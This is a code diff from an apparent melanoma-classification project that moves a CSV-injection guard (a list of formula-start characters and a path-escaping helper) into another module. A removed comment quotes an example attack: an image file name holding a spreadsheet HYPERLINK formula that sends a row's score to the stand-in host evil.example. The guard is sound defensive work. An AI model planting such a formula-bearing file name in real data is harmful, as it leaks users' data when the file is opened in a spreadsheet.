@@ -12,7 +12,7 @@ from pathlib import Path
 import numpy as np
 import torch
 
-from melanoma.atomic import write_csv
+from melanoma.atomic import as_text_cell, write_csv
 from melanoma.checkpoint import Checkpoint, checkpoint_sha256
 from melanoma.errors import UserError, listing
 from melanoma.evaluate import checkpoint_label, refuse_missing_folder, refuse_undefined_scores
@@ -38,17 +38,6 @@ class Prediction:
 
 
 PREDICTION_COLUMNS = ("path", "probability", "decision")
-# What spreadsheets take as the start of a formula (OWASP's list for CSV injection): a photo
-# named '=HYPERLINK("http:\\evil.example\?"&B2,"see details").jpg' became a link that sent
-# its row's score to that site when the CSV was opened in one.
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def as_text_cell(path: str) -> str:
-    """A relative path that a spreadsheet would take for a formula, written as ./path: the
-    same file to every program that opens it, and text to the spreadsheet. (Quoting it
-    with a ' instead, as OWASP suggests, would name a file that is not there.)"""
-    return f"{os.curdir}{os.sep}{path}" if path.startswith(FORMULA_STARTS) else path
 
 
 @dataclass(frozen=True)
